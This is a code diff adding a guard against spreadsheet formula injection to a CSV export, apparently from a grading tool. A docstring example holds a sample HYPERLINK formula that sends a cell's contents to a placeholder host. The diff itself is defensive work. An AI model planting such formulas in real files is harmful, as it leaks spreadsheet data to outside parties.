@@ -782,8 +782,25 @@ def export_csv(root: Path, path: Path, log: dict[str, dict[str, Any]]) -> Path:
         )
         writer.writeheader()
         for key in sorted(rows):
-            writer.writerow({**rows[key], "name": names.get(key[0], "")})
+            writer.writerow(
+                {column: inert(value) for column, value in {**rows[key], "name": names.get(key[0], "")}.items()}
+            )
     return path
+
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet reads as the start of a formula
+
+
+def inert(value: Any) -> Any:
+    """A CSV cell a spreadsheet shows instead of running: text that starts like a formula gets an apostrophe in
+    front (a file named `=HYPERLINK(...)_01.ipynb` would otherwise be a live link in the instructor's sheet).
+
+    >>> print(inert('=HYPERLINK("https://x.example/?" & E3)'))
+    '=HYPERLINK("https://x.example/?" & E3)
+    >>> inert("alice"), inert(7.5)
+    ('alice', 7.5)
+    """
+    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value
 
 
 def summary(run: GradeRun) -> str:
